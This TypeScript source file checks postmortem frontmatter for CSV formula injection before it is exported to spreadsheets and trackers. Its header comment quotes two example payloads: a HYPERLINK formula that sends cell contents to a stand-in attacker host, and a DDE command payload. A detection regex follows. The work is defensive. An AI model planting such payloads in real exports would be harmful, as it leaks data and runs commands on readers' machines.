/**
 * Frontmatter text a spreadsheet would run as a formula (bad input round 33). The evidence pack's
 * CSV files (`npm run evidence`: incidents, action items; opened by auditors in a spreadsheet) and
 * the trackers' CSV exports (`npm run follow-ups -- export --to jira|linear`) carry titles,
 * summaries and verifications as written, so an action item titled
 * `=HYPERLINK("https://evil.example/?"&A1,"Validate pool sizes")` was a live link sending the
 * sheet's cells away, and `@SUM(1+1)*cmd|" /C calc"!A0` a command (CSV injection, CWE-1236).
 * Refused at the source, where the writer can say what was meant, rather than altered in the
 * export (a `'` before it would reach Jira's tickets as text).
 *
 * A spreadsheet reads a cell as a formula when it starts with `=`, `+`, `-` or `@`. Only the
 * shapes that run something are taken, so that text such as `-5% error budget`, `+1 retry`,
 * `--dry-run was ignored` or a team handle `@acme/checkout` passes: `=` first, or `+`, `-`, `@`
 * starting a word that holds a call `(`, a pipe `|` (DDE) or a sheet reference `!`.
 */
const formulaStart = /^\s*(?:=|[+\-@]\S*[(|!])/;

/** The text fields of `data` (any depth) that start like a formula, with their paths. */
export function findSpreadsheetFormulas(data: unknown, path: (string | number)[] = []): { path: (string | number)[]; text: string }[] {
  const found: { path: (string | number)[]; text: string }[] = [];
  // One path, extended and shortened as the walk goes, copied for a text found only: every build
  // walks every postmortem's frontmatter, and a copy per value was most of the check (session 41).
  const walk = (value: unknown) => {
    if (typeof value === 'string') {
      if (formulaStart.test(value)) found.push({ path: [...path], text: value });
    } else if (Array.isArray(value)) {
      for (let index = 0; index < value.length; index++) {
        path.push(index);
        walk(value[index]);
        path.pop();
      }
    } else if (value !== null && typeof value === 'object' && !(value instanceof Date)) {
      for (const [key, item] of Object.entries(value)) {
        path.push(key);
        walk(item);
        path.pop();
      }
    }
  };
  path = [...path];
  walk(data);
  return found;
}
